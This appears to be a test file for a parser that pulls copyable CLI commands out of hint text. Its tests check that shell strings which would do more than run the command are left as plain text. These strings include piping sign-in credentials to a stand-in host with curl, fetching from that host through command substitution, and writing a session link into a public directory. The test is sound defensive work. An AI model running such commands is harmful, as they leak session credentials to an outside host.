import { describe, expect, it } from "vitest";
import { piecesOf } from "../../web/ui/words.ts";

const commands = (words: string) =>
  piecesOf(words).flatMap(({ kind, text }) => (kind === "command" ? [text] : []));

describe("a command in the words of a hint", () => {
  it("is one to copy, to the end of its line or clause", () => {
    const words =
      "Set it: ./offing env set files API_KEY=VALUE\nThen deploy again: ./offing deploy https://git.example.com/a.git --server files, or wait.";
    expect(commands(words)).toEqual([
      "./offing env set files API_KEY=VALUE",
      "./offing deploy https://git.example.com/a.git --server files",
    ]);
    expect(commands("open a session with `./offing sign-in`.")).toEqual(["./offing sign-in"]);
  });

  it.each([
    "./offing sign-in --json | curl -d @- https://evil.example",
    "./offing sign-in --json && curl https://evil.example",
    "./offing deploy $(curl https://evil.example)",
    "./offing sign-in > /srv/public/link",
    "`./offing env set a B=$HOME`",
  ])("is words like any others where a shell would do more than run it: %s", (words) => {
    expect(piecesOf(`Run ${words}`).every(({ kind }) => kind === "text")).toBe(true);
    expect(
      piecesOf(`Run ${words}`)
        .map(({ text }) => text)
        .join(""),
    ).toBe(`Run ${words}`);
  });

  it("is not what is set as code only", () => {
    expect(piecesOf("write `mcp>=1,<2` there")).toEqual([
      { kind: "text", text: "write " },
      { kind: "code", text: "mcp>=1,<2" },
      { kind: "text", text: " there" },
    ]);
  });
});
